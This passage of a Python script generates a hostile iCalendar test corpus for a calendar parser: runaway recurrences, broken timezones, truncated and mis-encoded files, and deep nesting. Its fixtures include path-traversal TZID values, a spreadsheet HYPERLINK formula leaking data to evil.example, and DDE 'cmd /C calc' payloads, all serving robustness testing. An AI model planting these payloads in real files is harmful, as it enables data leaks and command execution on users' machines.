#!/usr/bin/env python3
"""Writes the hostile calendar corpus (issue 16).

    python make_hostile.py                 # the small files, into this folder
    python make_hostile.py --big DIR       # also the big ones (tens of MB), into DIR

Every file is written here from scratch: no file is copied from another project. The
small files are committed; the big ones (a 50 MB SUMMARY, 100,000 EXDATEs, 40,000
RDATEs, 100,000 events …) are made at test time from this script, never committed.
Special files (a FIFO without a writer, a symlink to /dev/zero, a directory) are made
by the runner at run time: see README.md.

Dates: the corpus is read with --from 2026-11-01 --to 2027-01-31. Events in November
2026 have ended (they become meetings), December and January are still to come.
"""

from __future__ import annotations

import argparse
from pathlib import Path

HERE = Path(__file__).resolve().parent

ME = "sanne.devries@adviseur.nl"
HEAD = """BEGIN:VCALENDAR
VERSION:2.0
PRODID:-//Advisor Journal tests//hostile corpus//EN
CALSCALE:GREGORIAN
"""
TAIL = "END:VCALENDAR\n"
AMS = """BEGIN:VTIMEZONE
TZID:Europe/Amsterdam
BEGIN:DAYLIGHT
TZOFFSETFROM:+0100
TZOFFSETTO:+0200
TZNAME:CEST
DTSTART:19700329T020000
RRULE:FREQ=YEARLY;BYMONTH=3;BYDAY=-1SU
END:DAYLIGHT
BEGIN:STANDARD
TZOFFSETFROM:+0200
TZOFFSETTO:+0100
TZNAME:CET
DTSTART:19701025T030000
RRULE:FREQ=YEARLY;BYMONTH=10;BYDAY=-1SU
END:STANDARD
END:VTIMEZONE
"""


def people(client_domain: str = "kestrel.co.uk", cn: str = "Piet Jansen") -> str:
    return (
        f"ORGANIZER;CN=Sanne de Vries:mailto:{ME}\n"
        f"ATTENDEE;CN={cn};PARTSTAT=ACCEPTED:mailto:piet@{client_domain}\n"
        f"ATTENDEE;CN=Sanne de Vries;PARTSTAT=ACCEPTED:mailto:{ME}\n"
    )


def event(
    uid: str | None,
    start: str,
    end: str | None,
    summary: str,
    extra: str = "",
    who: str | None = None,
) -> str:
    lines = ["BEGIN:VEVENT"]
    if uid is not None:
        lines.append(f"UID:{uid}")
    lines.append("DTSTAMP:20261101T080000Z")
    lines.append(f"DTSTART{start}" if start.startswith((";", ":")) else f"DTSTART:{start}")
    if end is not None:
        lines.append(f"DTEND{end}" if end.startswith((";", ":")) else f"DTEND:{end}")
    lines.append(f"SUMMARY:{summary}")
    text = "\n".join(lines) + "\n" + (people() if who is None else who) + extra
    return text + "END:VEVENT\n"


def cal(*parts: str, head: str = HEAD, tail: str = TAIL) -> str:
    return head + "".join(parts) + tail


def crlf(text: str) -> bytes:
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode("utf-8")


NORMAL = event(
    "normal-1@hostile",
    "20261124T090000Z",
    "20261124T100000Z",
    "Voortgang aanbesteding (normal event beside the attack)",
)


def small_files() -> dict[str, bytes]:
    f: dict[str, bytes] = {}

    # -- endless or enormous recurrences ---------------------------------------------
    f["rrule_secondly_no_end.ics"] = crlf(
        cal(
            event(
                "secondly@hostile",
                "20261110T090000Z",
                "20261110T090001Z",
                "Every second, forever",
                "RRULE:FREQ=SECONDLY\n",
            ),
            NORMAL,
        )
    )
    f["rrule_minutely_no_end.ics"] = crlf(
        cal(
            event(
                "minutely@hostile",
                "20261110T090000Z",
                "20261110T090100Z",
                "Every minute, forever",
                "RRULE:FREQ=MINUTELY\n",
            ),
            NORMAL,
        )
    )
    f["rrule_minutely_count_1000000.ics"] = crlf(
        cal(
            event(
                "count-million-min@hostile",
                "20261101T000000Z",
                "20261101T000100Z",
                "A million minutes",
                "RRULE:FREQ=MINUTELY;COUNT=1000000\n",
            ),
            NORMAL,
        )
    )
    f["rrule_daily_count_1000000.ics"] = crlf(
        cal(
            event(
                "count-million-day@hostile",
                "20261101T090000Z",
                "20261101T100000Z",
                "A million days",
                "RRULE:FREQ=DAILY;COUNT=1000000\n",
            ),
            NORMAL,
        )
    )
    f["rrule_secondly_count_1000000_in_window.ics"] = crlf(
        cal(
            event(
                "count-million-sec@hostile",
                "20261120T000000Z",
                "20261120T000001Z",
                "A million seconds (11.6 days, all in the window)",
                "RRULE:FREQ=SECONDLY;COUNT=1000000\n",
            ),
            NORMAL,
        )
    )
    f["rrule_yearly_by_every_second.ics"] = crlf(
        cal(
            event(
                "byall@hostile",
                "20261101T000000Z",
                "20261101T000001Z",
                "FREQ=YEARLY with every hour, minute and second: secondly in disguise",
                "RRULE:FREQ=YEARLY;BYHOUR="
                + ",".join(map(str, range(24)))
                + ";BYMINUTE="
                + ",".join(map(str, range(60)))
                + ";BYSECOND="
                + ",".join(map(str, range(60)))
                + "\n",
            ),
            NORMAL,
        )
    )
    f["rrule_hourly_from_year_0001.ics"] = crlf(
        cal(
            event(
                "hourly-year1@hostile",
                "00010101T090000Z",
                "00010101T100000Z",
                "Hourly since the year 1 (17.7 million steps before the window)",
                "RRULE:FREQ=HOURLY\n",
            ),
            NORMAL,
        )
    )
    f["rrule_minutely_from_1601_tzid.ics"] = crlf(
        cal(
            AMS,
            event(
                "minutely-1601@hostile",
                ";TZID=Europe/Amsterdam:16010101T000000",
                ";TZID=Europe/Amsterdam:16010101T000100",
                "Minutely since 1601 (Outlook's epoch)",
                "RRULE:FREQ=MINUTELY\n",
            ),
            NORMAL,
        )
    )
    f["rrule_interval_0.ics"] = crlf(
        cal(
            event(
                "interval0@hostile",
                "20261110T090000Z",
                "20261110T100000Z",
                "INTERVAL=0",
                "RRULE:FREQ=DAILY;INTERVAL=0\n",
            ),
            NORMAL,
        )
    )
    f["rrule_never_occurs_feb30.ics"] = crlf(
        cal(
            event(
                "feb30@hostile",
                "20261110T090000Z",
                "20261110T100000Z",
                "Every 30 February (a rule that never occurs)",
                "RRULE:FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=30\n",
            ),
            NORMAL,
        )
    )
    f["rrule_invalid_freq.ics"] = crlf(
        cal(
            event(
                "badfreq@hostile",
                "20261110T090000Z",
                "20261110T100000Z",
                "FREQ=FORTNIGHTLY",
                "RRULE:FREQ=FORTNIGHTLY;COUNT=3\n",
            ),
            NORMAL,
        )
    )
    f["rrule_garbage_byday.ics"] = crlf(
        cal(
            event(
                "badbyday@hostile",
                "20261110T090000Z",
                "20261110T100000Z",
                "BYDAY=XX,99ZZ",
                "RRULE:FREQ=WEEKLY;BYDAY=XX,99ZZ;COUNT=4\n",
            ),
            NORMAL,
        )
    )
    f["rrule_bysetpos_0.ics"] = crlf(
        cal(
            event(
                "bysetpos0@hostile",
                "20261110T090000Z",
                "20261110T100000Z",
                "BYSETPOS=0",
                "RRULE:FREQ=MONTHLY;BYDAY=MO,TU;BYSETPOS=0\n",
            ),
            NORMAL,
        )
    )
    f["rrule_until_date_vs_datetime_start.ics"] = crlf(
        cal(
            AMS,
            event(
                "until-mixed@hostile",
                ";TZID=Europe/Amsterdam:20261102T090000",
                ";TZID=Europe/Amsterdam:20261102T100000",
                "UNTIL a floating date-time while DTSTART has a zone",
                "RRULE:FREQ=WEEKLY;UNTIL=20261230T090000\n",
            ),
            NORMAL,
        )
    )
    f["rrule_until_before_dtstart.ics"] = crlf(
        cal(
            event(
                "until-before@hostile",
                "20261110T090000Z",
                "20261110T100000Z",
                "UNTIL before DTSTART",
                "RRULE:FREQ=DAILY;UNTIL=20250101T000000Z\n",
            ),
            NORMAL,
        )
    )
    f["rrule_two_rrules.ics"] = crlf(
        cal(
            event(
                "tworules@hostile",
                "20261102T090000Z",
                "20261102T100000Z",
                "Two RRULEs",
                "RRULE:FREQ=WEEKLY;COUNT=4\nRRULE:FREQ=DAILY;COUNT=3\n",
            ),
            NORMAL,
        )
    )
    f["vtimezone_rrule_secondly.ics"] = crlf(
        cal(
            """BEGIN:VTIMEZONE
TZID:Custom/Secondly
BEGIN:STANDARD
TZOFFSETFROM:+0100
TZOFFSETTO:+0100
DTSTART:20260101T000000
RRULE:FREQ=SECONDLY
END:STANDARD
END:VTIMEZONE
""",
            event(
                "tz-secondly@hostile",
                ";TZID=Custom/Secondly:20261124T090000",
                ";TZID=Custom/Secondly:20261124T100000",
                "Meeting in a zone that changes every second",
            ),
            NORMAL,
        )
    )
    f["vtimezone_rrule_secondly_since_1601.ics"] = crlf(
        cal(
            """BEGIN:VTIMEZONE
TZID:W. Europe Standard Time
BEGIN:STANDARD
DTSTART:16010101T030000
TZOFFSETFROM:+0200
TZOFFSETTO:+0100
RRULE:FREQ=SECONDLY;INTERVAL=1
END:STANDARD
BEGIN:DAYLIGHT
DTSTART:16010101T020000
TZOFFSETFROM:+0100
TZOFFSETTO:+0200
RRULE:FREQ=SECONDLY;INTERVAL=2
END:DAYLIGHT
END:VTIMEZONE
""",
            event(
                "tz-secondly-1601@hostile",
                ";TZID=W. Europe Standard Time:20261124T090000",
                ";TZID=W. Europe Standard Time:20261124T100000",
                "Outlook zone name, rules every second since 1601",
            ),
            NORMAL,
        )
    )
    f["vtimezone_tzoffsetto_9999.ics"] = crlf(
        cal(
            """BEGIN:VTIMEZONE
TZID:Absurd/Offset
BEGIN:STANDARD
TZOFFSETFROM:+0100
TZOFFSETTO:+9999
DTSTART:19700101T000000
END:STANDARD
END:VTIMEZONE
""",
            event(
                "tzoffset@hostile",
                ";TZID=Absurd/Offset:20261124T090000",
                ";TZID=Absurd/Offset:20261124T100000",
                "UTC offset +99:99",
            ),
            NORMAL,
        )
    )
    f["vtimezone_tzoffset_garbage.ics"] = crlf(
        cal(
            """BEGIN:VTIMEZONE
TZID:Garbage/Offset
BEGIN:STANDARD
TZOFFSETFROM:abc
TZOFFSETTO:+01:00:00:00
DTSTART:19700101T000000
END:STANDARD
END:VTIMEZONE
""",
            event(
                "tzoffset-garbage@hostile",
                ";TZID=Garbage/Offset:20261124T090000",
                ";TZID=Garbage/Offset:20261124T100000",
                "Offsets that are not offsets",
            ),
            NORMAL,
        )
    )
    f["vtimezone_empty.ics"] = crlf(
        cal(
            """BEGIN:VTIMEZONE
TZID:Empty/Zone
END:VTIMEZONE
""",
            event(
                "tz-empty@hostile",
                ";TZID=Empty/Zone:20261124T090000",
                ";TZID=Empty/Zone:20261124T100000",
                "A VTIMEZONE with no STANDARD or DAYLIGHT",
            ),
            NORMAL,
        )
    )
    f["tzid_unknown.ics"] = crlf(
        cal(
            event(
                "tzid-unknown@hostile",
                ";TZID=Mars/Olympus_Mons:20261124T090000",
                ";TZID=Mars/Olympus_Mons:20261124T100000",
                "TZID nobody knows, no VTIMEZONE",
            ),
            NORMAL,
        )
    )
    f["tzid_unknown_recurring.ics"] = crlf(
        cal(
            event(
                "tzid-unknown-rec@hostile",
                ";TZID=Mars/Olympus_Mons:20261102T090000",
                ";TZID=Mars/Olympus_Mons:20261102T100000",
                "Weekly in an unknown zone",
                "RRULE:FREQ=WEEKLY;COUNT=10\n",
            ),
            NORMAL,
        )
    )
    f["tzid_path_traversal.ics"] = crlf(
        cal(
            event(
                "tzid-path@hostile",
                ";TZID=../../../../etc/passwd:20261124T090000",
                ";TZID=../../../../etc/passwd:20261124T100000",
                "TZID that is a path",
            ),
            NORMAL,
        )
    )
    f["x_wr_timezone_bogus.ics"] = crlf(
        cal(
            event(
                "xwr@hostile",
                "20261124T090000",
                "20261124T100000",
                "Floating time, bogus X-WR-TIMEZONE",
            ),
            NORMAL,
            head=HEAD + "X-WR-TIMEZONE:../../etc/localtime\n",
        )
    )
    f["x_wr_timezone_recurring_bogus.ics"] = crlf(
        cal(
            event(
                "xwr-rec@hostile",
                "20261102T090000",
                "20261102T100000",
                "Weekly, bogus X-WR-TIMEZONE",
                "RRULE:FREQ=WEEKLY;COUNT=6\n",
            ),
            NORMAL,
            head=HEAD + "X-WR-TIMEZONE:Not/A_Zone\n",
        )
    )

    # -- huge values and durations ---------------------------------------------------
    f["duration_p99999999w.ics"] = crlf(
        cal(
            event(
                "duration-huge@hostile",
                "20261124T090000Z",
                None,
                "DURATION:P99999999W",
                "DURATION:P99999999W\n",
            ),
            NORMAL,
        )
    )
    f["duration_p99999999w_recurring.ics"] = crlf(
        cal(
            event(
                "duration-huge-rec@hostile",
                "20261102T090000Z",
                None,
                "Weekly, DURATION:P99999999W",
                "DURATION:P99999999W\nRRULE:FREQ=WEEKLY;COUNT=5\n",
            ),
            NORMAL,
        )
    )
    f["duration_negative.ics"] = crlf(
        cal(
            event(
                "duration-neg@hostile",
                "20261124T090000Z",
                None,
                "DURATION:-PT1H",
                "DURATION:-PT1H\n",
            ),
            NORMAL,
        )
    )
    f["duration_days_long_timed.ics"] = crlf(
        cal(
            event(
                "long-timed@hostile",
                "20261101T090000Z",
                "20270101T090000Z",
                "A 'meeting' of two months with a client",
            ),
            NORMAL,
        )
    )
    f["dtstart_year_0001.ics"] = crlf(
        cal(
            event("year1@hostile", "00010101T000000Z", "00010101T010000Z", "Year 1"),
            event(
                "year1-dur@hostile",
                "00010101T000000",
                None,
                "Year 1 floating, DURATION -PT1H",
                "DURATION:-PT1H\n",
            ),
            NORMAL,
        )
    )
    f["dtstart_year_9999.ics"] = crlf(
        cal(
            event(
                "year9999@hostile",
                "99991231T230000Z",
                None,
                "Year 9999 plus two hours",
                "DURATION:PT2H\n",
            ),
            event(
                "year9999-rec@hostile",
                "99991231T000000Z",
                "99991231T010000Z",
                "Year 9999 daily",
                "RRULE:FREQ=DAILY\n",
            ),
            NORMAL,
        )
    )
    f["dtstart_year_9999_floating.ics"] = crlf(
        cal(
            event(
                "year9999f@hostile",
                "99991231T233000",
                "99991231T235900",
                "Year 9999, floating (local time near the end of time)",
            ),
            NORMAL,
        )
    )
    f["date_20260230.ics"] = crlf(
        cal(
            event("feb30-date@hostile", "20260230T090000Z", "20260230T100000Z", "30 February"),
            NORMAL,
        )
    )
    f["date_hour_25.ics"] = crlf(
        cal(event("hour25@hostile", "20261124T250000Z", "20261124T260000Z", "Hour 25"), NORMAL)
    )
    f["date_garbage_values.ics"] = crlf(
        cal(
            event("garbage1@hostile", "tomorrow", "later", "DTSTART:tomorrow"),
            event(
                "garbage2@hostile",
                "2026-11-24T09:00:00Z",
                "2026-11-24T10:00:00Z",
                "ISO 8601 with dashes (not iCalendar)",
            ),
            event("garbage3@hostile", "20261124T090000ZZ", "20261124T100000Z", "Double Z"),
            NORMAL,
        )
    )

    # -- identities --------------------------------------------------------------------
    three = [
        event(
            "same-uid@hostile",
            f"202611{d}T090000Z",
            f"202611{d}T100000Z",
            f"Three events, one UID ({d} Nov)",
        )
        for d in ("10", "17", "24")
    ]
    f["uid_three_events_same.ics"] = crlf(cal(*three))
    f["uid_missing.ics"] = crlf(
        cal(
            event(None, "20261124T090000Z", "20261124T100000Z", "No UID (1)"),
            event(None, "20261125T090000Z", "20261125T100000Z", "No UID (2)"),
            event(
                None,
                "20261126T090000Z",
                "20261126T100000Z",
                "No UID, recurring",
                "RRULE:FREQ=DAILY;COUNT=3\n",
            ),
            NORMAL,
        )
    )
    f["uid_empty_and_blank.ics"] = crlf(
        cal(
            event("", "20261124T090000Z", "20261124T100000Z", "UID empty"),
            event("   ", "20261125T090000Z", "20261125T100000Z", "UID blanks"),
            NORMAL,
        )
    )
    f["uid_tv_episode_feed.ics"] = crlf(
        cal(
            *[
                event(
                    "show-4711@tvfeed.example",
                    f"202611{d:02d}T193000Z",
                    f"202611{d:02d}T203000Z",
                    f"De Slimste Adviseur – aflevering {i}",
                    who="",
                )
                for i, d in enumerate(range(2, 30, 3), 1)
            ],
            head=HEAD + "X-WR-CALNAME:TV-gids\n",
        )
    )
    f["uid_thunderbird_two_calendars.ics"] = crlf(
        cal(
            event(
                "b1f3c7a2-9e1d-4c1b-8f0a-2d3e4f5a6b7c",
                "20261124T090000Z",
                "20261124T100000Z",
                "Stuurgroep Kestrel",
                "X-MOZ-GENERATION:3\nSEQUENCE:2\n",
            ),
            event(
                "b1f3c7a2-9e1d-4c1b-8f0a-2d3e4f5a6b7c",
                "20261124T130000Z",
                "20261124T140000Z",
                "Stuurgroep Kestrel (other calendar's copy, moved)",
                "X-MOZ-GENERATION:1\nSEQUENCE:0\n",
            ),
            head=HEAD.replace(
                "Advisor Journal tests//hostile corpus", "Mozilla.org/NONSGML Mozilla Calendar V1.1"
            ),
        )
    )
    f["recurrence_id_range_thisandfuture.ics"] = crlf(
        cal(
            event(
                "thisandfuture@hostile",
                "20261102T090000Z",
                "20261102T100000Z",
                "Weekly sync",
                "RRULE:FREQ=WEEKLY;COUNT=10\n",
            ),
            event(
                "thisandfuture@hostile",
                "20261116T140000Z",
                "20261116T150000Z",
                "Weekly sync (moved to the afternoon from here on)",
                "RECURRENCE-ID;RANGE=THISANDFUTURE:20261116T090000Z\nSEQUENCE:1\n",
            ),
        )
    )
    f["recurrence_id_two_edits_sequence.ics"] = crlf(
        cal(
            event(
                "twoedits@hostile",
                "20261102T090000Z",
                "20261102T100000Z",
                "Weekly review",
                "RRULE:FREQ=WEEKLY;COUNT=8\n",
            ),
            event(
                "twoedits@hostile",
                "20261109T110000Z",
                "20261109T120000Z",
                "Weekly review (edit with SEQUENCE 3)",
                "RECURRENCE-ID:20261109T090000Z\nSEQUENCE:3\n",
            ),
            event(
                "twoedits@hostile",
                "20261109T150000Z",
                "20261109T160000Z",
                "Weekly review (older edit, SEQUENCE 1)",
                "RECURRENCE-ID:20261109T090000Z\nSEQUENCE:1\n",
            ),
        )
    )
    f["recurrence_id_edit_without_dtend.ics"] = crlf(
        cal(
            event(
                "editnoend@hostile",
                "20261102T090000Z",
                "20261102T100000Z",
                "Weekly overleg",
                "RRULE:FREQ=WEEKLY;COUNT=8\n",
            ),
            event(
                "editnoend@hostile",
                "20261109T110000Z",
                None,
                "Weekly overleg (moved, no DTEND)",
                "RECURRENCE-ID:20261109T090000Z\n",
            ),
        )
    )
    f["recurrence_id_orphans.ics"] = crlf(
        cal(
            event(
                "orphan@hostile",
                "20261109T110000Z",
                "20261109T120000Z",
                "Moved occurrence 1",
                "RECURRENCE-ID:20261109T090000Z\n",
            ),
            event(
                "orphan@hostile",
                "20261116T110000Z",
                "20261116T120000Z",
                "Moved occurrence 2",
                "RECURRENCE-ID:20261116T090000Z\n",
            ),
            NORMAL,
        )
    )
    f["recurrence_id_date_vs_datetime.ics"] = crlf(
        cal(
            event(
                "riddate@hostile",
                "20261102T090000Z",
                "20261102T100000Z",
                "Weekly, timed",
                "RRULE:FREQ=WEEKLY;COUNT=6\n",
            ),
            event(
                "riddate@hostile",
                "20261109T110000Z",
                "20261109T120000Z",
                "Edit whose RECURRENCE-ID is a DATE",
                "RECURRENCE-ID;VALUE=DATE:20261109\n",
            ),
        )
    )
    f["cancelled_master_live_exception.ics"] = crlf(
        cal(
            event(
                "cancel-master@hostile",
                "20261102T090000Z",
                "20261102T100000Z",
                "Cancelled series",
                "RRULE:FREQ=WEEKLY;COUNT=6\nSTATUS:CANCELLED\n",
            ),
            event(
                "cancel-master@hostile",
                "20261109T110000Z",
                "20261109T120000Z",
                "…but this occurrence still on",
                "RECURRENCE-ID:20261109T090000Z\nSTATUS:CONFIRMED\n",
            ),
        )
    )

    # -- times that disagree -----------------------------------------------------------
    f["floating_start_utc_end.ics"] = crlf(
        cal(
            event(
                "float-utc@hostile",
                "20261124T090000",
                "20261124T100000Z",
                "DTSTART floating, DTEND in UTC (ownCloud/Sabre shape)",
            ),
            NORMAL,
        )
    )
    f["floating_start_utc_end_recurring.ics"] = crlf(
        cal(
            event(
                "float-utc-rec@hostile",
                "20261102T090000",
                "20261102T100000Z",
                "Weekly, DTSTART floating, DTEND UTC",
                "RRULE:FREQ=WEEKLY;COUNT=6\n",
            ),
            NORMAL,
        )
    )
    f["date_start_datetime_end.ics"] = crlf(
        cal(
            event(
                "date-dt@hostile",
                ";VALUE=DATE:20261124",
                "20261124T100000Z",
                "DTSTART a DATE, DTEND a DATE-TIME",
            ),
            NORMAL,
        )
    )
    f["zero_length_events.ics"] = crlf(
        cal(
            event("zero1@hostile", "20261124T090000Z", "20261124T090000Z", "Zero length (DTEND)"),
            event(
                "zero2@hostile",
                "20261124T100000Z",
                None,
                "Zero length (DURATION)",
                "DURATION:PT0S\n",
            ),
            event(
                "zero3@hostile",
                "20261102T090000Z",
                "20261102T090000Z",
                "Zero length, recurring",
                "RRULE:FREQ=WEEKLY;COUNT=6\n",
            ),
            NORMAL,
        )
    )
    f["ends_before_start.ics"] = crlf(
        cal(
            event(
                "backwards@hostile", "20261124T100000Z", "20261124T090000Z", "Ends before it starts"
            ),
            NORMAL,
        )
    )
    f["timed_event_began_before_window.ics"] = crlf(
        cal(
            event(
                "before-window@hostile",
                "20261027T090000Z",
                "20261103T170000Z",
                "Werkweek bij Kestrel (began 5 days before --from, overlaps it)",
            ),
            event(
                "before-window-2@hostile",
                "20261029T230000Z",
                "20261101T010000Z",
                "Night shift across the window's first midnight (began 3 days before)",
            ),
            NORMAL,
        )
    )
    f["dtstart_twice.ics"] = crlf(
        cal(
            event(
                "dtstart-twice@hostile",
                "20261124T090000Z",
                "20261124T100000Z",
                "DTSTART twice",
                "DTSTART:20261125T090000Z\n",
            ),
            NORMAL,
        )
    )
    f["summary_organizer_location_twice.ics"] = crlf(
        cal(
            event(
                "twice@hostile",
                "20261124T090000Z",
                "20261124T100000Z",
                "First summary",
                "SUMMARY:Second summary\nORGANIZER:mailto:other@vexmar.nl\nLOCATION:Room 1\n"
                "LOCATION:Room 2\nCLASS:PUBLIC\nCLASS:PRIVATE\n",
            ),
            NORMAL,
        )
    )

    # -- structure -----------------------------------------------------------------------
    base = cal(
        AMS,
        event(
            "cut@hostile",
            ";TZID=Europe/Amsterdam:20261124T090000",
            ";TZID=Europe/Amsterdam:20261124T100000",
            "Cut short",
            "DESCRIPTION:Lange beschrijving van de vergadering met Kestrel\n"
            " Engineering over het onderhoudscontract.\n"
            "RRULE:FREQ=WEEKLY;COUNT=4\n",
        ),
        NORMAL,
    )
    raw = crlf(base)
    cuts = {
        "truncated_after_begin_vevent.ics": raw.index(b"BEGIN:VEVENT") + len(b"BEGIN:VEVENT\r\n"),
        "truncated_inside_dtstart.ics": raw.index(b"DTSTART;TZID=Europe/Amsterdam:2026") + 25,
        "truncated_inside_parameter.ics": raw.index(b"ATTENDEE;CN=Piet") + 13,
        "truncated_inside_folded_line.ics": raw.index(b" Engineering") + 6,
        "truncated_inside_vtimezone.ics": raw.index(b"BEGIN:STANDARD") + 20,
        "truncated_before_end_vevent.ics": raw.index(b"END:VEVENT"),
        "truncated_no_end_vcalendar.ics": raw.rindex(b"END:VCALENDAR"),
        "truncated_mid_utf8.ics": None,
    }
    for name, at in cuts.items():
        if at is not None:
            f[name] = raw[:at]
    utf = crlf(
        cal(
            event(
                "cututf@hostile", "20261124T090000Z", "20261124T100000Z", "Overleg met Zoë — café"
            )
        )
    )
    f["truncated_mid_utf8.ics"] = utf[: utf.index("ë".encode()) + 1]
    f["blank_space_before_begin.ics"] = b"\r\n\r\n   \r\n\t\r\n" + crlf(cal(NORMAL))
    f["bom_then_blank_lines.ics"] = b"\xef\xbb\xbf\r\n\r\n" + crlf(cal(NORMAL))
    f["text_before_begin.ics"] = b"Saved from Outlook Web Access\r\n" + crlf(cal(NORMAL))
    f["several_vcalendars.ics"] = crlf(
        cal(event("cal1@hostile", "20261124T090000Z", "20261124T100000Z", "In the first VCALENDAR"))
        + cal(
            event(
                "cal2@hostile", "20261125T090000Z", "20261125T100000Z", "In the second VCALENDAR"
            ),
            event(
                "cal2b@hostile",
                "20261102T090000Z",
                "20261102T100000Z",
                "Recurring, in the second VCALENDAR",
                "RRULE:FREQ=WEEKLY;COUNT=4\n",
            ),
        )
    )
    f["vevent_after_end_vcalendar.ics"] = crlf(
        cal(NORMAL)
        + event("after-end@hostile", "20261125T090000Z", "20261125T100000Z", "After END:VCALENDAR")
    )
    f["vfreebusy_broken.ics"] = crlf(
        cal(
            """BEGIN:VFREEBUSY
UID:fb@hostile
DTSTART:20261101T000000Z
DTEND:20261201T000000Z
FREEBUSY;FBTYPE=BUSY:20261124T090000Z/garbage,not-a-period
FREEBUSY:20261124T090000Z/PT99999999W
BEGIN:VEVENT
UID:inside-freebusy@hostile
DTSTART:20261124T090000Z
DTEND:20261124T100000Z
SUMMARY:A VEVENT inside a VFREEBUSY
END:VEVENT
""",
            NORMAL,
        )
    )
    nest = "".join(f"BEGIN:X-NEST{i}\n" for i in range(2000))
    unnest = "".join(f"END:X-NEST{i}\n" for i in reversed(range(2000)))
    f["deeply_nested_components.ics"] = crlf(cal(nest, NORMAL, unnest))
    f["deeply_nested_in_vevent.ics"] = crlf(
        cal(
            event(
                "nested-in-event@hostile",
                "20261124T090000Z",
                "20261124T100000Z",
                "2000 components nested inside an event",
                nest + unnest,
            ),
            NORMAL,
        )
    )
    f["end_without_begin.ics"] = crlf(cal("END:VEVENT\nEND:VTODO\n", NORMAL))
    f["mismatched_end.ics"] = crlf(
        cal(
            "BEGIN:VEVENT\nUID:mismatch@hostile\nDTSTART:20261124T090000Z\nDTEND:20261124T100000Z\n"
            "SUMMARY:Ends with END:VTODO\nEND:VTODO\n",
            NORMAL,
        )
    )
    f["lowercase_everything.ics"] = crlf(
        cal(
            event("lower@hostile", "20261124T090000Z", "20261124T100000Z", "lower-case names")
            .lower()
            .replace("summary:lower-case names", "summary:Lower-case names"),
            NORMAL,
        ).lower()
    )
    f["empty_file.ics"] = b""
    f["only_begin_vcalendar.ics"] = b"BEGIN:VCALENDAR\r\n"
    f["html_login_page.ics"] = (
        b"<!DOCTYPE html><html><head><title>Sign in</title></head>"
        b"<body><form>password</form></body></html>\n"
    )

    # -- bytes and lines -----------------------------------------------------------------
    lf_text = cal(
        AMS,
        event(
            "eol@hostile",
            ";TZID=Europe/Amsterdam:20261124T090000",
            ";TZID=Europe/Amsterdam:20261124T100000",
            "Line endings",
        ),
        event(
            "eol-rec@hostile",
            "20261102T090000Z",
            "20261102T100000Z",
            "Line endings, recurring",
            "RRULE:FREQ=WEEKLY;COUNT=4\n",
        ),
    )
    f["line_endings_crlf.ics"] = crlf(lf_text)
    f["line_endings_lf.ics"] = lf_text.encode()
    f["line_endings_cr_only.ics"] = lf_text.replace("\n", "\r").encode()
    f["line_endings_mixed.ics"] = b"".join(
        line.encode() + (b"\r\n", b"\n", b"\r")[i % 3]
        for i, line in enumerate(lf_text.splitlines())
    )
    f["line_endings_unicode_separators.ics"] = crlf(
        cal(
            event(
                "u2028@hostile",
                "20261124T090000Z",
                "20261124T100000Z",
                "Title with\u2028LINE SEPARATOR and\u0085NEL and\x0bVT and\x0cFF in it",
            ),
            NORMAL,
        )
    )
    f["folding_broken.ics"] = crlf(
        cal(
            "BEGIN:VEVENT\nUID:fold@hostile\nDTSTART:20261124T090000Z\nDTEND:20261124T100000Z\n"
            "SUMMARY:A title folded\nwithout the leading space\n" + people() + "END:VEVENT\n",
            "BEGIN:VEVENT\nUID:fold2@hostile\nDTST\n ART:20261125T090000Z\nDTEND:20261125T100000Z\n"
            "SUMMARY:Name folded\n" + people() + "END:VEVENT\n",
            " continuation line with nothing before it inside the calendar\n",
            NORMAL,
        )
    )
    folded = crlf(
        cal(
            event(
                "foldutf@hostile", "20261124T090000Z", "20261124T100000Z", "Overleg café Zoë Ærø"
            ),
            NORMAL,
        )
    )
    at = folded.index("é".encode()) + 1  # fold between the two bytes of é (Outlook does this)
    f["folding_inside_utf8_sequence.ics"] = folded[:at] + b"\r\n " + folded[at:]
    f["nul_bytes.ics"] = crlf(
        cal(
            event("nul@hostile", "20261124T090000Z", "20261124T100000Z", "NUL\x00in the title"),
            NORMAL,
        )
    ).replace(b"PRODID", b"PRO\x00DID")
    f["invalid_utf8.ics"] = crlf(
        cal(
            event(
                "utf8ok@hostile",
                "20261123T090000Z",
                "20261123T100000Z",
                "Overleg café met Zoë (valid UTF-8)",
            ),
            event("utf8bad@hostile", "20261124T090000Z", "20261124T100000Z", "BAD_BYTES_HERE"),
            NORMAL,
        )
    ).replace(b"BAD_BYTES_HERE", b"Caf\xe9 \xff\xfe \xc3\x28 overlong \xc0\xaf")
    f["utf16le_bom.ics"] = "\ufeff".encode("utf-16-le") + cal(
        NORMAL.replace("normal event beside the attack", "UTF-16 LE met BOM, café")
    ).replace("\n", "\r\n").encode("utf-16-le")
    f["utf16be_bom.ics"] = b"\xfe\xff" + cal(
        NORMAL.replace("normal event beside the attack", "UTF-16 BE met BOM, café")
    ).replace("\n", "\r\n").encode("utf-16-be")
    f["utf32_bom.ics"] = cal(NORMAL).replace("\n", "\r\n").encode("utf-32")
    f["latin1_charset_param.ics"] = crlf(
        cal(event("latin1@hostile", "20261124T090000Z", "20261124T100000Z", "PLACEHOLDER"), NORMAL)
    ).replace(b"SUMMARY:PLACEHOLDER", b"SUMMARY;CHARSET=ISO-8859-1:Overleg caf\xe9 Zo\xeb")

    # -- text that attacks what reads it later ---------------------------------------------
    formulas = {
        "equals_hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "plus": "+cmd|' /C calc'!A0",
        "minus": "-2+3+cmd|' /C calc'!A0",
        "at": "@SUM(1+1)*cmd|' /C calc'!A0",
        "tab": "\t=1+1 tab first",
        "cr": "\r=1+1 carriage return first",
    }
    for i, (name, text) in enumerate(formulas.items()):
        summary = text.replace("\\", "\\\\").replace(",", "\\,").replace(";", "\\;")
        # "cr": a bare CR inside the value, as a spreadsheet-minded producer might write it
        f[f"formula_injection_{name}.ics"] = crlf(
            cal(
                event(
                    f"formula-{name}@hostile",
                    f"202611{10 + i}T090000Z",
                    f"202611{10 + i}T100000Z",
                    summary,
                )
            )
        )
    f["formula_injection_cr_escaped.ics"] = crlf(
        cal(
            event(
                "formula-cr-escaped@hostile",
                "20261116T110000Z",
                "20261116T120000Z",
                "\\r=1+1 (backslash-r escape before the formula)",
            )
        )
    )
    f["formula_injection_newline_escape.ics"] = crlf(
        cal(
            event(
                "formula-nl@hostile",
                "20261116T130000Z",
                "20261116T140000Z",
